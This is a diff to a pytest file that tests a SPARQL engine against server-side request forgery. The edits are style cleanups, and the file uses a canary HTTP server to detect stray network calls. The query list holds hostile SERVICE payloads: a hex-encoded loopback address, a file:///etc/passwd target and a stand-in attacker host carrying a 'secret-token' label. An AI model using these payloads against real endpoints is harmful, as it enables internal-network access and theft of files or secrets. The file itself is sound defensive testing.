@@ -20,7 +20,6 @@ from email.message import Message
 from pathlib import Path
 
 import pytest
-
 from harness import Server, no_traceback
 
 NETWORK_EVENTS = ("socket.connect", "socket.getaddrinfo", "urllib.Request",
@@ -35,14 +34,14 @@ class Canary:
         canary = self
 
         class Handler(http.server.BaseHTTPRequestHandler):
-            def do_GET(self) -> None:  # noqa: N802
+            def do_GET(self) -> None:
                 canary.hits.append(self.path)
                 self.send_response(200)
                 self.send_header("Content-Type", "text/turtle")
                 self.end_headers()
                 self.wfile.write(b'<http://canary/s> <http://canary/p> "CANARY" .')
 
-            do_POST = do_GET  # noqa: N815
+            do_POST = do_GET
 
             def log_message(self, *args: object) -> None:
                 pass
@@ -100,8 +99,8 @@ SERVICE_QUERIES = [
     "ASK {{ SERVICE <http://0x7f000001:{port}/> {{ ?s ?p ?o }} }}",
     "ASK {{ SERVICE <file:///etc/passwd> {{ ?s ?p ?o }} }}",
     "ASK {{ SERVICE <http://secret-token.attacker.invalid/> {{ ?s ?p ?o }} }}",
-    "PREFIX x: <http://127.0.0.1:{port}/> "
-    "CONSTRUCT {{ ?s ?p ?o }} WHERE {{ SERVICE x:q {{ ?s ?p ?o }} }}",
+    ("PREFIX x: <http://127.0.0.1:{port}/> "
+     "CONSTRUCT {{ ?s ?p ?o }} WHERE {{ SERVICE x:q {{ ?s ?p ?o }} }}"),
 ]
 
 
